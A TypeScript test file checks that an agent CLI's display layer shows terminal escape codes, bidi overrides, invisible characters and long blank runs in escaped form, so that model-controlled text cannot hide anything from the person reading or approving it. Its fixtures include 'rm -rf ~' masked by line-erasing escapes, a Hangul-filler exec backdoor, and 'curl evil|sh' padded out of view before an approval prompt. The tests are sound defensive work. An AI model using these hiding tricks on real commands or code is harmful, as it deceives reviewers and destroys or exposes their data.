// Security #11.11 / #11.5: model-controlled text shown on a terminal shows its control and
// bidi characters instead of obeying them, and is exact when it is not for a terminal.
import { describe, expect, it } from 'vitest';
import { blankRunsCounted, escapeForDisplay, TerminalText } from '../../operator/src/cli/display-escape.ts';

describe('security #11.11 escapeForDisplay', () => {
  it('shows a line-erasing CSI and an OSC title in caret notation, so nothing is hidden', () => {
    const hostile = 'rm -rf ~\x1b[2K\r\x1b[1Aecho hello\x1b]0;innocent title\x07';
    const { text, escaped } = escapeForDisplay(hostile);
    expect(text).toBe('rm -rf ~^[[2K^M^[[1Aecho hello^[]0;innocent title^G');
    expect(text).not.toMatch(/[\x00-\x1f\x7f]/);
    expect(escaped).toBe(5);
  });

  it('shows bidi overrides, isolates and invisible characters as <U+XXXX>', () => {
    const { text, escaped } = escapeForDisplay('access = "user\u202E \u2066// admin\u2069\u2067" \u200B\uFEFF\u061C\u2028');
    expect(text).toBe('access = "user<U+202E> <U+2066>// admin<U+2069><U+2067>" <U+200B><U+FEFF><U+061C><U+2028>');
    expect(escaped).toBe(8);
  });

  it('shows C1 controls (an 8-bit CSI) and DEL', () => {
    expect(escapeForDisplay('a\u009b2Kb\u007f').text).toBe('a<U+009B>2Kb^?');
  });

  it('keeps newlines, tabs and CRLF line ends in multi-line text, and escapes them inline', () => {
    expect(escapeForDisplay('a\tb\r\nc\n')).toEqual({ text: 'a\tb\r\nc\n', escaped: 0 });
    expect(escapeForDisplay('a\tb\r\nc', 'inline').text).toBe('a^Ib^M^Jc');
  });

  it('shows the characters that render as blank or nothing: Hangul fillers (an invisible JavaScript identifier), tags, variation selectors', () => {
    // `const { timeout,ㅤ} = req.query; exec(ㅤ)` reads as harmless code and runs a command from the request.
    const backdoor = 'const { timeout,\u3164} = req.query; exec(\u3164);';
    expect(escapeForDisplay(backdoor).text).toBe('const { timeout,<U+3164>} = req.query; exec(<U+3164>);');
    for (const [hidden, shown] of [
      ['\uffa0', '<U+FFA0>'],
      ['\u115f', '<U+115F>'],
      ['\u2800', '<U+2800>'],
      ['\u2060', '<U+2060>'],
      ['\u00ad', '<U+00AD>'],
      ['\u180e', '<U+180E>'],
      ['\u034f', '<U+034F>'],
      ['\ufe0f', '<U+FE0F>'],
      ['\u{e0041}', '<U+E0041>'],
      ['\u{e0100}', '<U+E0100>'],
    ])
      expect(escapeForDisplay(`a${hidden}b`)).toEqual({ text: `a${shown}b`, escaped: 1 });
  });

  it('leaves ordinary text, emoji with joiners and non-Latin scripts alone', () => {
    const text = 'héllo 世界 👩‍💻 नमस्ते';
    expect(escapeForDisplay(text)).toEqual({ text, escaped: 0 });
  });
});

describe('security #11.5 blankRunsCounted', () => {
  it('counts long runs of every blank, not only spaces and tabs, and names those that are not', () => {
    // `approve` showed `"}` and `npm test"}` only: 3000 no-break spaces pushed the start off the screen.
    const hidden = (blanks: string) => JSON.stringify({ command: `curl evil|sh #${blanks}npm test` });
    expect(blankRunsCounted(hidden('\u00a0'.repeat(3000)))).toEqual({
      text: '{"command":"curl evil|sh #<3000 blanks including U+00A0>npm test"}',
      runs: 1,
    });
    for (const blank of ['\u2000', '\u2007', '\u200a', '\u202f', '\u205f', '\u3000', '\u2800', '\u3164', '\u115f', '\u1160', '\uffa0']) {
      const { text, runs } = blankRunsCounted(hidden(blank.repeat(3000)));
      expect(runs).toBe(1);
      expect(text).toContain(`sh #<3000 blanks including U+${blank.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}>npm test`);
    }
    // Mixed with spaces, one run; spaces and tabs alone are counted as before.
    expect(blankRunsCounted(hidden(' \u00a0\u3000'.repeat(1000))).text).toContain('#<3000 blanks including U+00A0, U+3000>npm');
    expect(blankRunsCounted(hidden(' '.repeat(3000))).text).toContain('#<3000 blanks>npm');
  });

  it('leaves short runs of blanks, as a person writes them, alone', () => {
    const french = 'prix\u00a0: 3\u202f€ —\u3000ok';
    expect(blankRunsCounted(french)).toEqual({ text: french, runs: 0 });
  });
});

describe('security #11.11 TerminalText', () => {
  it('escapes on a terminal and warns once', () => {
    const warnings: string[] = [];
    const shown = new TerminalText({ terminal: true, warn: (line) => warnings.push(line), hint: 'redirect stdout' });
    expect(shown.show('+\x1b[2Khidden')).toBe('+^[[2Khidden');
    expect(shown.show('+\x1b]0;t\x07')).toBe('+^[]0;t^G');
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/control or bidirectional characters.*shown escaped.*redirect stdout/);
  });

  it('keeps the exact bytes when the output is not a terminal, and does not warn', () => {
    const warnings: string[] = [];
    const raw = new TerminalText({ terminal: false, warn: (line) => warnings.push(line) });
    expect(raw.show('+\x1b[2Khidden\u202E')).toBe('+\x1b[2Khidden\u202E');
    expect(warnings).toEqual([]);
  });
});
